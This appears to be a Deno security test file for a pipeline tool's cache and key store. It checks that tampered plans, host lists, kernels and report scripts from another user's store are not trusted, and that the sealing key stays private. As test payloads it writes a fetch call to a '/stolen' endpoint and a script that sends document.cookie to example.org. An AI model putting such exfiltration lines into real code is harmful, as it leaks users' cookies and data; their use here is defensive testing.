/** A store that somebody else prepared: what it says is believed of results alone, never of code and its rights. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { buildKernels } from "../kernels/build.ts";
import { builds } from "../pipelines/plan/assets.ts";
import { buildClient } from "../pipelines/report/build.ts";
import { sha256 } from "../pipelines/store/canonical.ts";
import { Store } from "../pipelines/store/local.ts";
import { contentOf } from "../pipelines/submit/content.ts";
import { scriptOf } from "../pipelines/submit/batches.ts";
import { Folder } from "../pipelines/submit/submission.ts";
import { CAN_MOUNT, mount, unmount } from "./mount_rig.ts";
import { isThere, outcomes, TINY, Workplace } from "./rig.ts";
import { CONFIG, own, STAGE } from "./run_stages.ts";

/** Does something as another user, whose key is another. */
async function asOwner<T>(place: Workplace, work: () => Promise<T>): Promise<T> {
  const before = Deno.env.get("XDG_STATE_HOME");
  Deno.env.set("XDG_STATE_HOME", join(place.folder, "owner"));
  try {
    return await work();
  } finally {
    if (before === undefined) Deno.env.delete("XDG_STATE_HOME");
    else Deno.env.set("XDG_STATE_HOME", before);
  }
}

/** Counts who calls on a port of this machine. */
class Listening implements AsyncDisposable {
  calls: string[] = [];
  readonly #server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (request) => {
    this.calls.push(request.url);
    return new Response("ok");
  });
  get host(): string {
    return `127.0.0.1:${this.#server.addr.port}`;
  }
  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server.shutdown();
  }
}

/** As `Cached` of pipelines/plan/cache.ts: what it was made from, then the plan. */
interface CachedPlan {
  readonly plan: unknown;
}

Deno.test("a plan in a store of somebody else runs nothing of its owner's", async (t) => {
  for (
    const how of ["with a seal of the owner's", "with a digest", "with a seal of another plan"]
  ) {
    await t.step(how, async () => {
      await using place = await Workplace.copy();
      await using listening = new Listening();
      const store = new Store(place.store);
      const key = {
        path: join(place.root, CONFIG),
        overrides: [],
        root: place.root,
        deno: Deno.version.deno,
      };
      const evil = `await fetch("http://${listening.host}/stolen");`;
      const path = await asOwner(place, async () => {
        own(place, "");
        await place.run([CONFIG]);
        const [name = ""] = [...Deno.readDirSync(`${store.cacheFolder}/plans`)].map((one) =>
          one.name
        );
        const good = await store.readCache("plans", key) as CachedPlan;
        own(place, evil, `hosts: ["${listening.host}"],`);
        await place.run([CONFIG]);
        assert.equal(listening.calls.length, 1, "the owner's code calls");
        const bad = await store.readCache("plans", key) as CachedPlan;
        // What it was made from is as it will be; what it says to run is not.
        await store.writeCache("plans", key, { ...good, plan: bad.plan });
        return `${store.cacheFolder}/plans/${name}`;
      });
      own(place, "");
      if (how === "with a digest") {
        const value = Deno.readTextFileSync(path).slice(65);
        const sum = await sha256(new TextEncoder().encode(value));
        Deno.writeTextFileSync(path, `${sum}\n${value}`);
      }
      if (how === "with a seal of another plan") {
        // The user has made a plan of their own in this store, of other settings.
        await place.run([CONFIG, "--set", "one.value=2"]);
        const [other] = [...Deno.readDirSync(`${store.cacheFolder}/plans`)]
          .map((one) => `${store.cacheFolder}/plans/${one.name}`).filter((one) => one !== path);
        const seal = Deno.readTextFileSync(other ?? "").slice(0, 64);
        Deno.writeTextFileSync(path, `${seal}\n${Deno.readTextFileSync(path).slice(65)}`);
      }
      Deno.removeSync(`${place.store}/records`, { recursive: true });
      const events = await place.run([CONFIG]);
      assert.deepEqual(outcomes(events), { ran: ["one"] });
      assert.equal(listening.calls.length, 1, "the user's run calls nobody");
      assert.deepEqual(outcomes(await place.run([CONFIG])), { hit: ["one"] });
    });
  }
});

Deno.test("hosts that a store says that a stage declares are not opened", async () => {
  await using place = await Workplace.copy();
  await using listening = new Listening();
  const store = new Store(place.store);
  own(place, `await fetch("http://${listening.host}/");`);
  await place.do(["plan", CONFIG]);
  const [bundle = ""] = [...Deno.readDirSync(`${place.store}/bundles`)].map(({ name }) => name);
  const description = await store.readCache("descriptions", { bundle }) as object;
  assert.ok(description);
  await asOwner(place, async () => {
    await store.writeCache("descriptions", { bundle }, { ...description, hosts: [listening.host] });
  });
  Deno.removeSync(`${place.store}/cache/plans`, { recursive: true });
  const events = await place.run([CONFIG], { code: 1 });
  const ended = events.find((event) => event.type === "node-ended");
  assert.equal(ended?.failure?.type, "permission");
  assert.equal(listening.calls.length, 0);
});

Deno.test("kernels and a page's script that a store holds are built anew unless this user built them", async () => {
  await using place = await Workplace.here();
  const store = new Store(place.store);
  const [kernels, seals] = builds(store, "kernels");
  const before = await buildKernels(kernels, seals);
  // A module that is valid, and another one.
  Deno.copyFileSync(before.data.path, before.dense.path);
  assert.deepEqual(await buildKernels(kernels, seals), before);
  const [folder, vouched] = builds(store, "report");
  const client = await buildClient(folder, "report-client", vouched);
  Deno.writeTextFileSync(client.path, "fetch('https://example.org/' + document.cookie)");
  assert.deepEqual(await buildClient(folder, "report-client", vouched), client);
  await asOwner(place, async () => {
    Deno.writeTextFileSync(client.path, "alert(1)");
    const bytes = new TextEncoder().encode("alert(1)");
    await vouched.write(client.path.slice(client.path.lastIndexOf("/") + 1), await sha256(bytes));
  });
  assert.deepEqual(await buildClient(folder, "report-client", vouched), client);
});

Deno.test("the key that seals is the user's alone, and one that others could read is replaced", async () => {
  await using place = await Workplace.copy();
  own(place, "");
  const state = join(place.folder, "state"), path = join(state, "crisol", "key");
  const env = { XDG_STATE_HOME: state };
  await place.do(["plan", CONFIG], { env });
  const first = Deno.readFileSync(path);
  assert.equal(first.length, 32);
  if (Deno.build.os !== "windows") assert.equal((Deno.statSync(path).mode ?? 0) & 0o777, 0o600);
  assert.deepEqual([...Deno.readDirSync(join(state, "crisol"))].map(({ name }) => name), ["key"]);
  await place.do(["plan", CONFIG], { env });
  assert.deepEqual(Deno.readFileSync(path), first);
  if (Deno.build.os !== "windows") {
    Deno.chmodSync(path, 0o644);
    await place.do(["plan", CONFIG], { env });
    assert.notDeepEqual(Deno.readFileSync(path), first);
    assert.equal((Deno.statSync(path).mode ?? 0) & 0o777, 0o600);
  }
});

Deno.test("where the user has no folder for state nothing is cached, and all works", async () => {
  await using place = await Workplace.copy();
  own(place, "");
  // No folder can be made in a file.
  const env = { XDG_STATE_HOME: place.write(STAGE.replace("own", "file"), "") };
  assert.deepEqual(outcomes(await place.run([CONFIG], { env })), { ran: ["one"] });
  assert.deepEqual(outcomes(await place.run([CONFIG], { env })), { hit: ["one"] });
  for (const kind of ["plans", "descriptions", "checks"]) {
    assert.ok(!isThere(join(place.store, "cache", kind)), kind);
  }
});

Deno.test("a task of a submission runs nothing where the submission was changed since", async (t) => {
  await using place = await Workplace.copy();
  const folder = Folder.of(place.store, "one");
  Deno.mkdirSync(join(folder.project, "pipelines", "odd \\ * name"), { recursive: true });
  Deno.writeTextFileSync(join(folder.project, "pipelines", "odd \\ * name", "ä.ts"), "1");
  Deno.writeTextFileSync(join(folder.project, "pipelines", "main.ts"), "console.log(1)");
  for (const name of ["plan.json", "submission.json"]) {
    Deno.writeTextFileSync(join(folder.path, name), "{}");
  }
  // In the place of Deno: it says that it was called.
  const deno = place.write("deno", '#!/bin/sh\necho called "$@"\n');
  Deno.chmodSync(deno, 0o755);
  Deno.writeTextFileSync(folder.script, scriptOf(folder, await contentOf(folder.path), deno));
  const call = async () => {
    const { code, stdout, stderr } = await new Deno.Command("sh", {
      args: [folder.script, "train"],
      stdout: "piped",
      stderr: "piped",
    }).output();
    const said = new TextDecoder().decode(stderr);
    return { code, called: new TextDecoder().decode(stdout).startsWith("called run "), said };
  };
  assert.deepEqual(await call(), { code: 0, called: true, said: "" });
  const main = join(folder.project, "pipelines", "main.ts");
  const edits: Record<string, [edit: () => void, undo: () => void]> = {
    "a source": [
      () => Deno.writeTextFileSync(main, "console.log(2)"),
      () => Deno.writeTextFileSync(main, "console.log(1)"),
    ],
    "the plan": [
      () => Deno.writeTextFileSync(`${folder.path}/plan.json`, "[]"),
      () => Deno.writeTextFileSync(`${folder.path}/plan.json`, "{}"),
    ],
    "another file": [
      () => Deno.writeTextFileSync(`${folder.project}/package.json`, "{}"),
      () => Deno.removeSync(`${folder.project}/package.json`),
    ],
    "a link to a folder": [
      () => Deno.symlinkSync(place.root, `${folder.project}/stages`),
      () => Deno.removeSync(`${folder.project}/stages`),
    ],
    "a source that is gone": [
      () => Deno.removeSync(main),
      () => Deno.writeTextFileSync(main, "console.log(1)"),
    ],
  };
  for (const [name, [edit, undo]] of Object.entries(edits)) {
    await t.step(name, async () => {
      edit();
      const { code, called, said } = await call();
      assert.deepEqual({ code, called }, { code: 65, called: false });
      assert.match(said, /was changed since: submit it once more/);
      undo();
    });
  }
  assert.deepEqual(await call(), { code: 0, called: true, said: "" });
});

Deno.test("a checkout that cannot be written runs with a store elsewhere", CAN_MOUNT, async () => {
  await using place = await Workplace.copy();
  own(place, "");
  // As if nothing had been built yet: builds lie in the store, too.
  Deno.removeSync(place.store, { recursive: true });
  await mount("--bind", place.root, place.root);
  try {
    await mount("-o", "remount,bind,ro", place.root);
    assert.throws(() => place.write("stray", ""), /Read-only/);
    const events = await place.run([TINY, "shapes", "preprocess", "train@baseline"]);
    assert.deepEqual(outcomes(events), { ran: ["shapes", "preprocess", "train@baseline"] });
    assert.ok(isThere(join(place.store, "cache", "kernels")));
  } finally {
    await unmount(place.root);
  }
});
